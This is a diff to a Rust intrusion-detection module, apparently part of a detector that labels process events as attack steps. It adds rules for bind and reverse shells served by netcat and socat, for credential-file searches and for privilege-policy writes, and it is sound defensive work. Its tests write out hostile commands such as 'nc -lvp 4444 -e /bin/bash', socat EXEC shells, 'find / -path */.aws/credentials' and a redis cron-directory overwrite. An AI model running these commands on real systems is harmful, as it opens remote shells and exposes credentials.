@@ -391,6 +391,7 @@ pub fn sensitivity(path: &str) -> Sensitivity {
         "shadow",
         "gshadow",
         "sudoers",
+        "doas.conf",
         "passwd",
         "authorized_keys",
         "credentials",
@@ -2072,8 +2073,8 @@ pub fn reads_by_design(program: &str, path: &str) -> bool {
         "runuser",
         "doas",
     ];
-    if path == "/etc/sudoers" || path.starts_with("/etc/sudoers.d/") {
-        return POLICY_READERS.contains(&program);
+    if privilege_policy(path) {
+        return POLICY_READERS.contains(&program) || program == "polkitd";
     }
     if matches!(path, "/etc/shadow" | "/etc/gshadow") {
         return ACCOUNT_TOOLS.contains(&program);
@@ -2246,6 +2247,49 @@ pub enum Step {
     /// says it is typically malware's; a debugger's own child asks so by design (see
     /// [`DEBUGGERS`]).
     AntiDebug,
+    /// A network tool told to hand a shell or an interpreter to whoever is at the other end
+    /// of its connection (`nc -e /bin/sh`, `nc -lvp 4444 -c bash`, `ncat --exec`, `socat
+    /// TCP-LISTEN:… EXEC:/bin/bash`): a bind or reverse shell by its command line, which no
+    /// check of a port needs (see [`serves_shell`]).
+    ShellServed,
+}
+
+/// Whether a network tool's arguments hand a shell or an interpreter to its connection
+/// ([`Step::ShellServed`]): netcat's and ncat's `-e`/`-c`/`--exec`/`--sh-exec`/`--lua-exec`
+/// (`-e/bin/sh` run together too) followed by a shell or an interpreter, socat's `EXEC:`
+/// address naming one or any `SYSTEM:` address (a shell command line).
+pub fn serves_shell(name: &str, args: &[&str]) -> bool {
+    let shell = |w: &str| {
+        let w = w.trim_matches(|c| c == '"' || c == '\'');
+        let first = w.split([' ', ',']).next().unwrap_or(w);
+        let base = first.rsplit('/').next().unwrap_or(first);
+        matches!(role(base), Role::Shell | Role::Interpreter)
+    };
+    match name {
+        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
+            args.iter().enumerate().any(|(i, a)| {
+                let next = args.get(i + 1).copied().unwrap_or("");
+                match *a {
+                    // The program must be a shell's or an interpreter's: OpenBSD's `-c` is
+                    // TLS (`nc -c host 443`), a check, not a command.
+                    "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec" => shell(next),
+                    a => a
+                        .strip_prefix("--exec=")
+                        .or_else(|| a.strip_prefix("-e").filter(|r| r.starts_with('/')))
+                        .is_some_and(shell),
+                }
+            })
+        }
+        "socat" => args.iter().any(|a| {
+            let upper = a.to_ascii_uppercase();
+            ["EXEC:", "SYSTEM:"].iter().any(|p| {
+                upper
+                    .find(p)
+                    .is_some_and(|i| shell(&a[i + p.len()..]) || *p == "SYSTEM:")
+            })
+        }),
+        _ => false,
+    }
 }
 
 /// Debuggers and tracers whose child asks to be traced before it runs the program under
@@ -2308,6 +2352,7 @@ impl Step {
             Step::InstanceMetadata => "a connection to the cloud instance metadata service",
             Step::KeySent => "key, credential or configuration file copied to another host",
             Step::AntiDebug => "a program hiding from debuggers (traced at its own request, with no debugger above it)",
+            Step::ShellServed => "a network tool handing a shell to its connection (a bind or reverse shell)",
         }
     }
 
@@ -2350,6 +2395,7 @@ impl Step {
             Step::InstanceMetadata => "クラウドのインスタンスメタデータサービスへの接続",
             Step::KeySent => "鍵・認証情報・設定ファイルそのものの他ホストへのコピー",
             Step::AntiDebug => "デバッガからの隠蔽（デバッガのない状態での PTRACE_TRACEME）",
+            Step::ShellServed => "ネットワークツールが接続先にシェルを渡している（バインドシェルまたはリバースシェル）",
         }
     }
 }
@@ -2491,6 +2537,51 @@ pub fn sensitive_subcommand(args: &[&str]) -> bool {
             .windows(2)
             .any(|p| (listing(&p[0]) && accounts(&p[1])) || (accounts(&p[0]) && listing(&p[1])))
         || grants_by_subcommand(args)
+}
+
+/// Whether a command line (or a `sh -c` string's commands) changes the state of what its
+/// program manages rather than reading it: a setter by name (`snmpset`, `setfacl`, `ipset`),
+/// a `set`, `off`, `stop`, `disable`, `restart`, `reboot`, `poweroff` or `cycle` word (`ipmitool
+/// chassis power off`, `redis-cli config set`), or a [`sensitive_subcommand`]. Used for
+/// catalogue entries whose work only reads (`read_only`: a monitoring agent polls; session
+/// 24, the blind holdout33: a Zabbix item switching a pump's outlet off with `snmpset` kept
+/// the agent's anchor).
+pub fn changes_state(cmdline: &str) -> bool {
+    let inner = cmdline
+        .split_once(" -c ")
+        .filter(|(head, _)| {
+            let p = head.split_whitespace().next().unwrap_or_default();
+            SHELLS.contains(&p.rsplit('/').next().unwrap_or(p))
+        })
+        .map_or(cmdline, |(_, rest)| rest);
+    inner
+        .split([';', '|', '&', '\n'])
+        .map(|c| {
+            c.trim()
+                .trim_matches(|c: char| c == '"' || c == '\'' || c == '(' || c == ')')
+        })
+        .filter(|c| !c.is_empty())
+        .any(|c| {
+            let mut words = c.split_whitespace();
+            let prog = words.next().unwrap_or_default();
+            let name = prog.rsplit('/').next().unwrap_or(prog);
+            let args: Vec<&str> = words.collect();
+            let setter = name.len() > 3 && (name.starts_with("set") || name.ends_with("set"));
+            let verb = args.iter().any(|a| {
+                matches!(
+                    a.to_ascii_lowercase().as_str(),
+                    "set"
+                        | "off"
+                        | "stop"
+                        | "disable"
+                        | "restart"
+                        | "reboot"
+                        | "poweroff"
+                        | "cycle"
+                )
+            });
+            setter || verb || sensitive_subcommand(&args)
+        })
 }
 
 /// General-purpose programs that read, encode, copy or pack a file's contents.
@@ -3108,6 +3199,44 @@ const KEY_WORDS: &[&str] = &[
     ".kdbx",
 ];
 
+/// Whether a file search (`find` by `-name`, `-path` and their kin, `locate` and its kin)
+/// looks for credential files by name ([`names_credential_file`]). A file a `grep` reads is
+/// where it searches, not what it looks for: `grep NOPASSWD /etc/sudoers` audits a policy.
+fn searches_for_credential_files(name: &str, args: &[&str]) -> bool {
+    match name {
+        "find" => args.windows(2).any(|w| {
+            matches!(
+                w[0],
+                "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-iwholename"
+            ) && names_credential_file(w[1])
+        }),
+        "locate" | "mlocate" | "plocate" => args.iter().any(|a| names_credential_file(a)),
+        _ => false,
+    }
+}
+
+/// Whether a search pattern (a `find -name`/`-path` glob, a `locate` word) names a
+/// credential file by where such files live: `*/.aws/credentials`, `.git-credentials`,
+/// `.kube/config`, `id_ed25519`, `*.pgpass` (session 24, the blind holdout33: a monitoring
+/// item also running `find / -path */.aws/credentials` kept its agent's catalogue anchor).
+/// The pattern's glob characters and quotes are dropped and it is read as a path below a
+/// directory, so a bare file name counts as one found anywhere.
+fn names_credential_file(pattern: &str) -> bool {
+    let p: String = pattern
+        .chars()
+        .filter(|c| !matches!(c, '*' | '?' | '"' | '\'' | '[' | ']'))
+        .collect();
+    if p.len() < 4 || p.starts_with('-') {
+        return false;
+    }
+    let as_path = if p.starts_with('/') {
+        p
+    } else {
+        format!("/x/{p}")
+    };
+    is_credential_material(&as_path) && !as_path.ends_with('/')
+}
+
 /// Whether a path holds mounted secrets or credential material (beyond [`is_credential`]):
 /// an orchestrator's service-account token and mounted secrets, private keys and key
 /// stores by name, cloud and cluster credentials, password stores.
@@ -3642,9 +3771,23 @@ fn privileged_file(path: &str) -> bool {
                 | "group"
                 | "ld.so.preload"
         ) && (path.starts_with("/etc/") || path.contains("/.ssh/"))
-        || path.starts_with("/etc/sudoers.d/")
+        || privilege_policy(path)
         || path.starts_with("/etc/pam.d/")
         || path.starts_with("/etc/ld.so.conf")
+}
+
+/// Whether a path is a privilege tool's policy: who may run what as whom (`sudoers` and
+/// `sudoers.d`, OpenBSD's and Alpine's `doas.conf` and `doas.d`, polkit's rules). Writing
+/// one grants root as surely as an account change (session 24, the blind holdout33: `doas
+/// vi /etc/doas.conf` on an Alpine board was a person's quiet session).
+pub fn privilege_policy(path: &str) -> bool {
+    path == "/etc/sudoers"
+        || path.starts_with("/etc/sudoers.d/")
+        || matches!(path, "/etc/doas.conf" | "/usr/local/etc/doas.conf")
+        || path.starts_with("/etc/doas.d/")
+        || path.starts_with("/etc/polkit-1/rules.d/")
+        || path.starts_with("/etc/polkit-1/localauthority/")
+        || path.starts_with("/usr/share/polkit-1/rules.d/")
 }
 
 /// Whether a path is a security record: authentication and audit logs, login records,
@@ -4183,7 +4326,10 @@ pub fn attack_step(ev: &FlatEvent) -> Option<(Step, String)> {
                             || b.contains("6000")
                             || b.contains("s"))
                 });
-            if setid_search || KEY_WORDS.iter().any(|k| lower.contains(k)) {
+            if setid_search
+                || KEY_WORDS.iter().any(|k| lower.contains(k))
+                || searches_for_credential_files(&name, &args)
+            {
                 return Some((Step::KeySearch, cmd));
             }
         }
@@ -4227,6 +4373,9 @@ pub fn attack_step(ev: &FlatEvent) -> Option<(Step, String)> {
         // or a shell's `-c` program, after a `;`, `&&` or `|`): read all the same.
         if let Some(p) = command_reads_credentials(&cmd) {
             return Some((Step::CredentialMaterial, p));
+        }
+        if serves_shell(&name, &args) {
+            return Some((Step::ShellServed, cmd));
         }
         if KERNEL_TOOLS.contains(&name.as_str()) {
             return Some((Step::KernelInterface, cmd));
@@ -4522,6 +4671,32 @@ mod tests {
 
     fn ev(json: &str) -> FlatEvent {
         FlatEvent::from_json_line(json).unwrap()
+    }
+
+    /// Session 24: what a read-only catalogue entry (a monitoring agent) never explains.
+    #[test]
+    fn commands_that_change_state() {
+        for cmd in [
+            "snmpset -v2c -c rw 10.0.0.2 1.3.6.1.4.1.318.1.1.12.3.3.1.1.4.3 i 2",
+            "sh -c snmpget -v2c -c ro 10.0.0.2 1.3.6.1.2.1.1.3.0; snmpset -v2c -c rw 10.0.0.2 1.3 i 2",
+            "ipmitool chassis power off",
+            "redis-cli config set dir /var/spool/cron",
+            "systemctl stop kiln-logger",
+            "setfacl -m u:nobody:rwx /etc",
+            "kubectl delete pod api-0",
+        ] {
+            assert!(changes_state(cmd), "{cmd}");
+        }
+        for cmd in [
+            "snmpget -v2c -c ro -Oqv 10.0.0.2 1.3.6.1.2.1.1.3.0",
+            "sh -c snmpwalk -v2c -c ro 10.0.0.2 ifTable | wc -l",
+            "ipmitool sensor list",
+            "redis-cli info memory",
+            "systemctl is-active nginx",
+            "/usr/sbin/zabbix_agent2 -c /etc/zabbix/zabbix_agent2.conf",
+        ] {
+            assert!(!changes_state(cmd), "{cmd}");
+        }
     }
 
     /// An account, role or privilege granted through a program's own subcommand is an
@@ -5592,6 +5767,44 @@ mod tests {
         }
     }
 
+    /// Session 24, from the blind holdout33 (a ttyd session's check of a port, and the same
+    /// session leaving `nc -lvp 4444 -e /bin/bash`): a network tool handing a shell to its
+    /// connection is a step of its own, a decisive one.
+    #[test]
+    fn network_tools_serving_a_shell() {
+        let served = |cmd: &str| {
+            let mut w = cmd.split_whitespace();
+            let name = w.next().unwrap();
+            let args: Vec<&str> = w.collect();
+            serves_shell(name, &args)
+        };
+        for cmd in [
+            "nc -lvp 4444 -e /bin/bash",
+            "nc 203.0.113.9 443 -e/bin/sh",
+            "ncat --exec /usr/bin/python3 10.0.0.9 9001",
+            "ncat -l 4444 --sh-exec \"bash -i\"",
+            "nc -c sh 198.51.100.4 4444",
+            "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
+            "socat tcp:198.51.100.4:443 system:'id;sh'",
+        ] {
+            assert!(served(cmd), "{cmd}");
+        }
+        for cmd in [
+            "nc -zv 10.61.0.5 1883",
+            "nc -c mqtt.example.com 8883",
+            "ncat -l 8080 --keep-open",
+            "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80",
+            "socat - UNIX-CONNECT:/run/haproxy.sock",
+        ] {
+            assert!(!served(cmd), "{cmd}");
+        }
+        let ev = FlatEvent::from_json_line(
+            r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"nc","proc.exepath":"/usr/bin/nc.traditional","proc.cmdline":"nc -lvp 4444 -e /bin/bash","proc.pname":"bash"}"#,
+        )
+        .unwrap();
+        assert_eq!(attack_step(&ev).map(|(s, _)| s), Some(Step::ShellServed));
+    }
+
     #[test]
     fn ssh_tunnels_and_their_destinations() {
         for (cmd, dest) in [
@@ -6474,6 +6687,33 @@ mod tests {
         );
         assert_eq!(exec("find", "find / -name id_rsa*"), Some(Step::KeySearch));
         assert_eq!(exec("grep", "grep -i DB_ /app/config"), None);
+        // Session 24: a pattern naming a credential file by where such files live.
+        for cmd in [
+            "find / -path */.aws/credentials",
+            "find /home -name .git-credentials",
+            "find / -name .pgpass",
+            "locate .kube/config",
+            "find / -path '*/.docker/config.json'",
+        ] {
+            assert_eq!(
+                exec(cmd.split(' ').next().unwrap(), cmd),
+                Some(Step::KeySearch),
+                "{cmd}"
+            );
+        }
+        for cmd in [
+            "find /var/log -name *.gz -mtime +30",
+            "grep -r credentials /app/docs",
+            "find /srv/share -path */flightlogs/*",
+        ] {
+            assert_eq!(exec(cmd.split(' ').next().unwrap(), cmd), None, "{cmd}");
+        }
+        // A file grep reads is where it searches (its read is weighed as such), not a
+        // search for key files.
+        assert_eq!(
+            exec("grep", "grep -E ^[^#].*NOPASSWD /etc/sudoers"),
+            Some(Step::CredentialMaterial)
+        );
         // Dropped scripts.
         assert_eq!(exec("sh", "sh /tmp/.p.sh"), Some(Step::ScriptRun));
         assert_eq!(
@@ -6505,6 +6745,21 @@ mod tests {
             open("O_WRONLY|O_TRUNC", false, "/root/.bashrc"),
             Some(Step::PrivilegedWrite)
         );
+        // Session 24: every privilege tool's policy, not sudo's alone.
+        for policy in [
+            "/etc/doas.conf",
+            "/etc/doas.d/ops.conf",
+            "/etc/polkit-1/rules.d/49-nopasswd.rules",
+        ] {
+            assert_eq!(
+                open("O_WRONLY|O_TRUNC", false, policy),
+                Some(Step::PrivilegedWrite),
+                "{policy}"
+            );
+        }
+        assert_eq!(open("O_WRONLY|O_TRUNC", false, "/etc/doas.conf.bak"), None);
+        assert!(reads_by_design("doas", "/etc/doas.conf"));
+        assert!(!reads_by_design("cat", "/etc/doas.conf"));
         assert_eq!(
             open("O_WRONLY|O_TRUNC", false, "/var/log/auth.log"),
             Some(Step::LogCleared)
@@ -6569,10 +6824,12 @@ mod tests {
             exec("nsenter", "nsenter -t 1 -m sh"),
             Some(Step::KernelInterface)
         );
+        // Handing a shell to the connection is its own, decisive step (session 24).
         assert_eq!(
             exec("ncat", "ncat -lvp 4444 -e /bin/sh"),
-            Some(Step::NetworkTool)
+            Some(Step::ShellServed)
         );
+        assert_eq!(exec("ncat", "ncat -lvp 4444"), Some(Step::NetworkTool));
         assert_eq!(exec("ls", "ls /proc/1/root/etc"), Some(Step::HostAccess));
         // A filesystem made over a disk, whatever its bus (holdout20: an SD card's
         // archive partition formatted at a serial console was a quiet person's act).
